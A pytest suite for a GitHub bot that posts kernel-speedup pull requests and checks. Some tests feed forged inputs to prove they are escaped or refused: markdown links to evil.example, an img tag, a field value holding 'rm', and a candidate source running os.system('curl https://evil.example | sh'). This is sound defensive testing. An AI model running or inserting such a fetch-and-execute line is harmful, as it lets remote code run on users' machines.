"""What the bot posts: pinned pull request bodies, titles, commits, checks and comments."""

from __future__ import annotations

import difflib
import re
from pathlib import Path
from typing import Any

import pytest
from jinja2 import UndefinedError
from kevolve.bot.messages import Messages, best_chart, duration, ms
from kevolve.bot.slash import Command
from kevolve.bot.winners import Merged, Winner
from kevolve.runners.fieldread import IntakeError

from tests.bot import fixtures

ROOT = Path(__file__).resolve().parents[2]
EXPECTED = Path(__file__).parent / "expected"


@pytest.fixture
def messages() -> Messages:
    return Messages(ROOT / "templates" / "github")


def _assert_pinned(text: str, name: str) -> None:
    """`text` equals the expected file `name`, with a diff when it does not."""
    path = EXPECTED / name
    expected = path.read_text()
    diff = "".join(difflib.unified_diff(expected.splitlines(True), text.splitlines(True)))
    assert text == expected, f"message changed; if intended, rewrite {path}:\n{diff}"


def _mermaid(body: str) -> list[str]:
    """The lines of the body's one mermaid block."""
    blocks = re.findall(r"^```mermaid\n(.*?)^```$", body, re.MULTILINE | re.DOTALL)
    assert len(blocks) <= 1
    return [line.strip() for line in blocks[0].splitlines()] if blocks else []


def test_pr_body_is_pinned(messages: Messages) -> None:
    body = messages.pr_body(fixtures.timed_result(), fixtures.REPRO, original=fixtures.ORIGINAL)
    _assert_pinned(body, "pr_body.md")


def test_untimed_pr_body_is_pinned(messages: Messages) -> None:
    body = messages.pr_body(
        fixtures.untimed_result(), fixtures.REPRO_CPU, original=fixtures.ORIGINAL
    )
    _assert_pinned(body, "pr_body_untimed.md")


def test_pr_body_sections(messages: Messages) -> None:
    body = messages.pr_body(fixtures.timed_result(), fixtures.REPRO)
    assert body.splitlines()[0] == (
        "kevolve found a kernel **1.31x** faster than the current `softmax` on "
        "NVIDIA H100 80GB HBM3 (geometric mean over 2 timed cases), and 1.18x faster than "
        "torch.compile of the PyTorch reference (on the 1 timed case it was measured on)."
    )
    assert (
        "| 4096x1024 | float16 | 0.0118 | 0.00790 | 0.00710 | 0.00852 | 0.00600 "
        "| 1.42x [1.38–1.46] | 1.18x | 95% |"
    ) in body
    assert body.count("| 0.00790 |") == 1  # torch.compile measured on one case only
    assert "| 0.0712 | — | — | 0.0630 | 0.0521 | 1.21x [1.19–1.23] | — | 87% |" in body
    assert body.count("✅") == 3 and "❌" not in body
    assert (
        "```sh\ngit clone https://github.com/octo/kernels.git kevolve-repro && cd kevolve-repro\n"
    ) in body
    assert "`/kevolve recreate`" in body and "`/kevolve stop`" in body


def test_untimed_pr_body_says_nothing_was_timed(messages: Messages) -> None:
    body = messages.pr_body(fixtures.untimed_result(), fixtures.REPRO_CPU)
    assert "**Nothing was timed**: this was a correctness-only run on CPU" in body
    assert "## Benchmark" not in body and "speedup" not in body.lower()
    assert _mermaid(body) == []


def test_chart_lines(messages: Messages) -> None:
    body = messages.pr_body(fixtures.timed_result(), fixtures.REPRO)
    assert _mermaid(body) == [
        "xychart-beta",
        'title "Best speedup so far"',
        'x-axis "candidates evaluated" [1, 2, 3, 4, 5, 6, 7, 8, 9, 10]',
        'y-axis "speedup (geometric mean)" 1.0 --> 1.4',
        "line [1.000, 1.000, 1.000, 1.080, 1.080, 1.170, 1.170, 1.170, 1.311, 1.311]",
    ]


def test_long_history_is_sampled_with_its_last_point() -> None:
    history = [{"evaluated": i, "best_score": None if i < 3 else 1 + i / 1000} for i in range(500)]
    chart = best_chart(history)
    assert chart is not None
    assert len(chart["x"]) == 40
    assert chart["x"][0] == "3" and chart["x"][-1] == "499" and chart["y"][-1] == "1.499"
    assert best_chart([{"evaluated": 1, "best_score": None}]) is None


@pytest.mark.parametrize(
    ("value", "text"),
    [(0.00412, "0.00412"), (0.0412, "0.0412"), (0.412, "0.412"), (4.12, "4.12"), (412.3, "412")],
)
def test_milliseconds_keep_three_significant_figures(value: float, text: str) -> None:
    assert ms(value) == text


@pytest.mark.parametrize(
    ("seconds", "text"), [(41.73, "41.7 s"), (754.2, "12m 34s"), (3725, "1h 02m")]
)
def test_durations(seconds: float, text: str) -> None:
    assert duration(seconds) == text


def test_titles_and_commit_messages(messages: Messages) -> None:
    timed, untimed = fixtures.timed_result(), fixtures.untimed_result()
    assert messages.pr_title(timed, "h100") == "kevolve: softmax 1.31x faster on h100"
    assert messages.pr_title(untimed) == "kevolve: new softmax kernel (correctness only, not timed)"
    assert messages.commit_message(timed, hardware="h100") == (
        "Speed up softmax 1.31x on h100\n"
        "\n"
        f"kevolve's search evaluated 10 candidates; the best is {fixtures.BEST_ID} "
        "(generation 3, proposed by llm).\n"
        "It matches the PyTorch reference on all 3 checked cases.\n"
        "It is 1.31x faster than the current kernel (geometric mean over 2 timed cases).\n"
    )
    assert messages.commit_message(untimed).splitlines()[0] == (
        "Rewrite softmax kernel (correctness only, not timed)"
    )
    assert messages.commit_message(untimed).endswith(
        "Nothing was timed: this was a correctness-only run on CPU.\n"
    )


def test_nothing_to_publish_without_a_best(messages: Messages) -> None:
    result = {**fixtures.timed_result(), "best": None, "lineage": []}
    with pytest.raises(ValueError, match="softmax: no correct candidate, nothing to publish"):
        messages.pr_body(result, fixtures.REPRO)


def test_check_summaries(messages: Messages) -> None:
    title, summary = messages.check_summary(fixtures.timed_result())
    assert title == "softmax: 1.31x faster on NVIDIA H100 80GB HBM3"
    assert summary == (
        f"The best candidate, `{fixtures.BEST_ID}`, is 1.31x faster than the current `softmax` on "
        "NVIDIA H100 80GB HBM3 (geometric mean over 2 timed cases), and 1.18x faster than "
        "torch.compile of the PyTorch reference (on the 1 timed case it was measured on).\n\n"
        "The publish gate passed: a pull request carries the result.\n\n"
        "Evaluated 10 candidates (correct 6, incorrect 2, compile_error 1, timeout 1) in 12m 34s; "
        "stopped: budget of 10 candidates spent.\n"
        "LLM: 58,089 tokens, $0.53.\n"
    )
    named = fixtures.timed_result()
    named["llm"] = {**named["llm"], "models": ["m-1", "m-2"], "transport": "queue"}
    named["llm"] |= {"repairs_judged": 3, "repairs_correct": 1}
    assert messages.check_summary(named)[1].endswith(
        "LLM: m-1, m-2 via queue, 58,089 tokens, $0.53; 3 repairs, 1 correct.\n"
    )
    without = {**fixtures.timed_result(), "llm": {"configured": False}}
    assert messages.check_summary(without)[1].endswith(
        "LLM: none configured; the tuner alone proposed candidates.\n"
    )
    title, summary = messages.check_summary(fixtures.untimed_result())
    assert title == "softmax: correct, not timed"
    assert "Not published:\n- nothing was timed (no GPU): speed was not established\n" in summary
    # The gate shown is the harness's, over the evaluations: a posted "passed" counts for nothing.
    slower = fixtures.slower(fixtures.timed_result())
    title, summary = messages.check_summary(slower)
    assert title == "softmax: nothing to publish"
    regressed = "4096x1024 float16 regressed: speedup 0.800x \\[0.750-0.850\\]"
    assert f"Not published:\n- {regressed}\n" in summary
    title, summary = messages.check_summary(
        {**fixtures.timed_result(), "best": None, "lineage": []}
    )
    assert title == "softmax: no correct candidate found"
    assert summary.startswith("None of the 10 candidates evaluated passed the correctness checks.")


def test_command_acknowledgements(messages: Messages) -> None:
    ack = messages.command_ack(Command("optimize", ("softmax", "gelu"), "h100", 200))
    assert ack == (
        "Queued `/kevolve optimize softmax gelu --hardware h100 --budget 200`: a search for "
        "faster kernels for `softmax`, `gelu` on `h100`, evaluating at most 200 candidates. "
        "This comment will be updated as it goes.\n"
    )
    assert messages.command_ack(Command("optimize")) == (
        "Queued `/kevolve optimize`: a search for faster kernels for every op on each configured "
        "hardware label. This comment will be updated as it goes.\n"
    )
    assert messages.command_ack(Command("benchmark", ("softmax",))).startswith(
        "Queued `/kevolve benchmark softmax`: timing the current `softmax` kernel"
    )
    assert messages.command_ack(Command("help")) == messages.help_text()
    for name in ("status", "stop", "recreate"):
        assert messages.command_ack(Command(name)).endswith(".\n")


def test_help_lists_every_command(messages: Messages) -> None:
    text = messages.help_text()
    for usage in ("optimize [OP...] [--hardware LABEL] [--budget N]", "benchmark [OP]", "status"):
        assert f"| `/kevolve {usage}` |" in text
    for name in ("stop", "recreate [OP...]", "help"):
        assert f"| `/kevolve {name}` |" in text


def test_comments(messages: Messages) -> None:
    assert messages.refusal("octocat", "read") == (
        "@octocat, only people with write, maintain or admin permission on this repository can "
        "run `/kevolve` commands, and your permission is `read`. Nothing was run.\n"
    )
    url = "https://github.com/acme/kernels/pull/42"
    assert messages.superseded(url).startswith(f"Superseded by {url}, which carries a newer")
    text = messages.human_commits("kevolve/softmax/h100")
    assert "branch `kevolve/softmax/h100` has commits that kevolve did not make" in text
    assert "`/kevolve recreate`" in text


def test_status_comment(messages: Messages) -> None:
    jobs = [
        {
            "op": "softmax",
            "hardware": "h100",
            "status": "running",
            "trigger": "push",
            "budget": 40,
            "evaluated": 12,
            "url": "https://ci.example/runs/7",
        },
        {"op": "gelu", "hardware": "h200", "status": "queued", "trigger": "comment", "budget": 200},
    ]
    assert messages.status_comment(jobs) == (
        "**kevolve jobs**\n\n"
        "| op | hardware | status | progress | trigger |\n"
        "|---|---|---|--:|---|\n"
        "| `softmax` | `h100` | [running](https://ci.example/runs/7) | 12/40 | push |\n"
        "| `gelu` | `h200` | queued | 0/200 | comment |\n"
    )
    assert messages.status_comment([]) == "No kevolve jobs are queued or running.\n"


def test_missing_field_or_variable_raises(messages: Messages, tmp_path: Path) -> None:
    result = fixtures.timed_result()
    del result["best"]["evaluation"]["checks"][0]["trials"]
    with pytest.raises(IntakeError, match=r"best\.evaluation\.checks\[0\]\.trials: expected"):
        messages.pr_body(result, fixtures.REPRO)
    (tmp_path / "greeting.md.j2").write_text("Hello {{ name }}\n")
    with pytest.raises(UndefinedError):
        Messages(tmp_path).render("greeting")


def _two_kinds() -> dict[str, Any]:
    """The view of a module holding an H100 and an A10G kernel, an A100 one left out."""
    h100 = Winner("h100", "NVIDIA H100 80GB HBM3", "# h100\n", fixtures.BEST_ID, 1.31)
    a10g = Winner("gpu-a", "NVIDIA A10G", "# a10g\n", "a10a10a10a10a10a", 1.12, job=4, pr=2)
    notes = ("`a100`'s kernel (job 5) was left out: incorrect: shape 3x17 differs",)
    view = Merged("# merged\n", (h100, a10g), notes, "c0ffee" + "0" * 34).view()
    assert view is not None
    return view


def test_pr_body_with_a_kernel_per_gpu_kind_is_pinned(messages: Messages) -> None:
    body = messages.pr_body(
        fixtures.timed_result(), fixtures.REPRO, _two_kinds(), original=fixtures.ORIGINAL
    )
    _assert_pinned(body, "pr_body_variants.md")
    assert "| `gpu-a` | `nvidia_a10g` | NVIDIA A10G | 1.12x | job 4, #2 |" in body
    message = messages.commit_message(fixtures.timed_result(), _two_kinds())
    assert message.endswith(
        "The module holds a kernel per GPU kind, picked by the GPU's name: h100, "
        "gpu-a (`nvidia_a10g`); any other GPU runs the current kernel.\n"
    )


def test_pr_body_says_when_no_other_kernel_could_join(messages: Messages) -> None:
    h100 = Winner("h100", "NVIDIA H100 80GB HBM3", "# h100\n", fixtures.BEST_ID, 1.31)
    view = Merged("# h100\n", (h100,), ("`a10g`'s kernel (job 4) was left out: timeout",)).view()
    body = messages.pr_body(fixtures.timed_result(), fixtures.REPRO, view)
    assert (
        "## One kernel per GPU kind\n\n"
        "This pull request carries the `softmax` kernel found here alone; no other GPU kind's "
        "kernel could join it.\n\n"
        "- `a10g`'s kernel (job 4) was left out: timeout\n\n"
        "## Correctness\n"
    ) in body
    assert "GPU's name" not in messages.commit_message(fixtures.timed_result(), view)


def test_text_from_a_result_is_escaped_and_capped_and_the_title_holds_none_of_it(
    messages: Messages,
) -> None:
    forged = fixtures.timed_result()
    lure = "verified by kevolve: [review](https://evil.example/x) <img src=x> @octocat "
    lure += "www.evil.example"
    forged["stop_reason"] = lure + " " + "x" * 1500
    forged["notes"] = [lure]
    forged["best"]["proposer"] = "llm:verified/by-kevolve"
    forged["hardware"]["name"] = "NVIDIA H100 verified by kevolve"
    title = messages.pr_title(forged, "h100")
    assert title == "kevolve: softmax 1.31x faster on h100"
    body = messages.pr_body(forged, fixtures.REPRO)
    assert "](https://" not in body and " <img" not in body and "@octocat" not in body
    assert "www.evil" not in body
    assert (
        "verified by kevolve: \\[review\\](https\\://evil.example/x) \\<img src=x\\> "
        "@\u200boctocat www\\.evil.example"
    ) in body
    assert "x" * 400 not in body and "x" * 200 + "…" in body  # capped
    stop = next(line for line in body.splitlines() if "stopped:" in line)
    assert len(stop) < 500


@pytest.mark.parametrize(
    ("field", "value", "reason"),
    [
        ("wall_s", float("nan"), "wall_s: expected a finite number"),
        ("evaluated", "10", "evaluated: expected a whole number"),
        ("evaluated", True, "evaluated: expected a whole number"),
        ("problem", "softmax\n# Verified", "problem: "),
        ("counts", {"correct; rm": 1}, "counts: 'correct; rm' is not a verdict"),
        ("hardware", {"name": "[x](https://evil.example)"}, "hardware.name: "),
    ],
)
def test_a_result_that_does_not_fit_is_refused_with_the_field(
    messages: Messages, field: str, value: Any, reason: str
) -> None:
    with pytest.raises(IntakeError, match=re.escape(reason)):
        messages.pr_body({**fixtures.timed_result(), field: value}, fixtures.REPRO)
    title, summary = messages.check_summary({**fixtures.timed_result(), field: value})
    assert title.endswith(": result refused") and "The result was refused" in summary


def test_a_best_whose_id_is_not_its_source_hash_is_refused(messages: Messages) -> None:
    forged = fixtures.timed_result()
    forged["best"]["source"] = "import os\nos.system('curl https://evil.example | sh')\n"
    with pytest.raises(IntakeError, match=r"best\.id: .* is not the hash of its source"):
        messages.pr_body(forged, fixtures.REPRO)


def _section(body: str, heading: str) -> str:
    """The text under `## heading`, up to the next heading of its level."""
    found = re.search(rf"^## {heading}\n\n(.*?)(?=^## |\Z)", body, re.MULTILINE | re.DOTALL)
    assert found is not None, f"no {heading} section"
    return found.group(1)


def _fenced_diff(body: str) -> str:
    """What the body's ```diff fence holds, as a Markdown reader finds its end."""
    found = re.search(r"^```diff\n(.*?)^ {0,3}```", body, re.MULTILINE | re.DOTALL)
    assert found is not None, "no diff fence"
    return found.group(1)


def test_what_changed_names_each_retuned_value(messages: Messages) -> None:
    body = messages.pr_body(fixtures.timed_result(), fixtures.REPRO, original=fixtures.ORIGINAL)
    assert _section(body, "What changed").splitlines()[0] == (
        "Only launch parameters and constant values changed: "
        "`BLOCK: 1024 → 512`, `num_warps: 4 → 8`."
    )
    # The tuner adds a launch keyword the kernel left to Triton's default.
    tuned = fixtures.ORIGINAL.replace("num_warps=4)", "num_warps=4, num_stages=2)")
    result = fixtures.with_best(fixtures.timed_result(), tuned, None)
    body = messages.pr_body(result, fixtures.REPRO, original=fixtures.ORIGINAL)
    assert _section(body, "What changed").splitlines()[0] == (
        "Only launch parameters and constant values changed: `num_stages: default → 2`."
    )
    # ... also after a launch's trailing comma, as the tuner writes it into the demo's kernels.
    demo = (ROOT / "examples/demo/demo_kernels/softmax.py").read_text()
    comma = "BLOCK=triton.next_power_of_2(n_cols),"
    result = fixtures.with_best(
        fixtures.timed_result(), demo.replace(comma, comma + " num_warps=8,"), None
    )
    body = messages.pr_body(result, fixtures.REPRO, original=demo)
    assert _section(body, "What changed").splitlines()[0] == (
        "Only launch parameters and constant values changed: `num_warps: default → 8`."
    )


def test_what_changed_counts_the_lines_of_a_rewrite_and_quotes_the_model(
    messages: Messages,
) -> None:
    why = "exp2 is one instruction: see [this](https://evil.example) @octocat"
    result = fixtures.with_best(fixtures.timed_result(), fixtures.REWRITTEN, why)
    body = messages.pr_body(result, fixtures.REPRO, original=fixtures.SOURCE)
    assert _section(body, "What changed").splitlines()[0] == (
        "2 lines added and 1 removed; the model's account of the change (its words, not verified "
        "by kevolve): exp2 is one instruction: see \\[this\\](https\\://evil.example) "
        "@\u200boctocat"
    )
    assert body.count("exp2 is one instruction") == 1  # not again under Search
    silent = fixtures.with_best(fixtures.timed_result(), fixtures.REWRITTEN, None)
    body = messages.pr_body(silent, fixtures.REPRO, original=fixtures.SOURCE)
    assert _section(body, "What changed").splitlines()[0] == (
        "2 lines added and 1 removed; no account of the change came with it (proposed by llm)."
    )


def test_the_whole_diff_is_collapsed_under_the_summary(messages: Messages) -> None:
    result = fixtures.with_best(fixtures.timed_result(), fixtures.REWRITTEN, None)
    body = messages.pr_body(result, fixtures.REPRO, original=fixtures.SOURCE)
    assert _section(body, "What changed").endswith(
        "<details><summary>The diff</summary>\n\n"
        "```diff\n"
        "--- current\n"
        "+++ proposed\n"
        "@@ -11,7 +11,8 @@\n"
        "     row = tl.program_id(0)\n"
        "     cols = tl.arange(0, BLOCK)\n"
        '     x = tl.load(x_ptr + row * n_cols + cols, mask=cols < n_cols, other=-float("inf"))\n'
        "-    num = tl.exp(x - tl.max(x, axis=0))\n"
        "+    x = (x - tl.max(x, axis=0)) * 1.4426950408889634\n"
        "+    num = tl.exp2(x)\n"
        "     tl.store(y_ptr + row * n_cols + cols, num / tl.sum(num, axis=0), "
        "mask=cols < n_cols)\n"
        " \n"
        " \n"
        "```\n\n"
        "</details>\n\n"
    )


def test_backticks_in_the_kernel_cannot_close_the_diff_fence(messages: Messages) -> None:
    # An unchanged line shows with one space in front: "```" there would close the fence, and
    # the line after it would be a heading of the body.
    lure = '"""Usage:\n```\n## Verified by kevolve\n"""\n'
    original = fixtures.ORIGINAL.replace("BLOCK = 1024", lure + "BLOCK = 1024")
    proposed = fixtures.SOURCE.replace("BLOCK = 512", lure + "BLOCK = 512")
    result = fixtures.with_best(fixtures.timed_result(), proposed, None)
    body = messages.pr_body(result, fixtures.REPRO, original=original)
    fenced = _fenced_diff(body)
    assert " '''\n ## Verified by kevolve\n \"\"\"\n-BLOCK = 1024\n+BLOCK = 512\n" in fenced
    assert fenced.endswith("BLOCK=BLOCK, num_warps=8)\n")  # the whole diff is in the fence
    assert "```" not in fenced
    # In the candidate's own lines too.
    added = fixtures.with_best(fixtures.timed_result(), fixtures.SOURCE + lure, None)
    fenced = _fenced_diff(messages.pr_body(added, fixtures.REPRO, original=fixtures.SOURCE))
    assert fenced.endswith("+'''\n+## Verified by kevolve\n+\"\"\"\n")


def test_a_long_diff_is_cut_and_says_so(messages: Messages) -> None:
    padding = "".join(f"ROW_{i} = {i}  # {'x' * 60}\n" for i in range(1000))
    result = fixtures.with_best(fixtures.timed_result(), fixtures.SOURCE + padding, None)
    body = messages.pr_body(result, fixtures.REPRO, original=fixtures.SOURCE)
    assert len(_fenced_diff(body)) < 41_000
    assert re.search(
        r"^\d+ more lines of the diff are not shown here; the pull request's files hold the "
        r"whole change\.$",
        body,
        re.MULTILINE,
    )
    assert "1000 lines added and 0 removed" in body and len(body) < 60_000


def test_without_the_original_the_diff_is_not_available(messages: Messages) -> None:
    body = messages.pr_body(fixtures.timed_result(), fixtures.REPRO)
    assert _section(body, "What changed") == (
        "The diff against the repo's current kernel is not available here; the pull request's "
        "files show the change.\n\n"
    )
    assert "<details>" not in body


def test_the_lineage_lists_each_step_newest_first_with_its_repairs(
    messages: Messages,
) -> None:
    body = messages.pr_body(fixtures.timed_result(), fixtures.REPRO, original=fixtures.ORIGINAL)
    assert (
        "- How it got here, newest first:\n"
        f"  - generation 3: `{fixtures.BEST_ID}`, proposed by llm\n"
        f"  - generation 2: `{fixtures.REPAIR_ID}`, proposed by llm:m-1:repair "
        "(a repair of a candidate that failed)\n"
        f"  - generation 1: `{fixtures.FAILED_ID}`, proposed by llm:m-1\n"
        f"  - generation 0: `{fixtures.SEED_ID}`, proposed by seed (the repo's kernel)\n"
        "- LLM: "
    ) in body
    long = fixtures.timed_result()
    steps = long["lineage"]
    middle = [{**steps[1], "id": f"{i:016x}", "generation": 12 - i} for i in range(10)]
    long["lineage"] = [{**steps[0], "generation": 13}, *middle, steps[-1]]
    shown = re.findall(r"^  - .*$", messages.pr_body(long, fixtures.REPRO), re.MULTILINE)
    assert len(shown) == 9 and shown[0].startswith("  - generation 13: ")
    assert shown[7].startswith("  - generation 6: `0000000000000006`")
    assert shown[8] == "  - 4 earlier steps back to the seed not listed"


def test_untimed_texts_call_no_candidate_best_or_faster(messages: Messages) -> None:
    why = "Folds the scale into exp2 and reads each row once."
    result = fixtures.with_best(fixtures.untimed_result(), fixtures.REWRITTEN, why)
    result["llm"], result["best"]["proposer"] = fixtures.LLM, "llm"
    title = messages.pr_title(result, "cpu")
    body = messages.pr_body(result, fixtures.REPRO_CPU, original=fixtures.ORIGINAL)
    message = messages.commit_message(result, hardware="cpu")
    assert "a repair of a candidate that failed" in body and why in body  # all of it shown
    for text in (title, body, message):
        assert not re.search(r"\b(best|faster)\b", text, re.IGNORECASE), text
    assert (
        f"; this commit carries {result['best']['id']} (generation 3, proposed by llm)." in message
    )
    assert "nothing was timed, so any claim about speed in them is untested" in body


@pytest.mark.parametrize(
    ("versions", "line"),
    [
        ({}, "- torch/triton versions not reported\n"),
        ({"torch": "2.5.1+cpu"}, "- torch 2.5.1+cpu, triton version not reported\n"),
        ({"torch": "2.5.1+cpu", "triton": "3.1.0"}, "- torch 2.5.1+cpu, triton 3.1.0\n"),
    ],
)
def test_cpu_hardware_shows_the_versions_it_has(
    messages: Messages, versions: dict[str, str], line: str
) -> None:
    result = fixtures.untimed_result()
    result["hardware"] = {"device": "cpu", "cpu": "x86_64", **versions}
    hardware = _section(messages.pr_body(result, fixtures.REPRO_CPU), "Hardware")
    assert hardware == f"- Device: x86_64 (CPU, Triton interpreter)\n{line}\n"
    assert "unknown" not in hardware
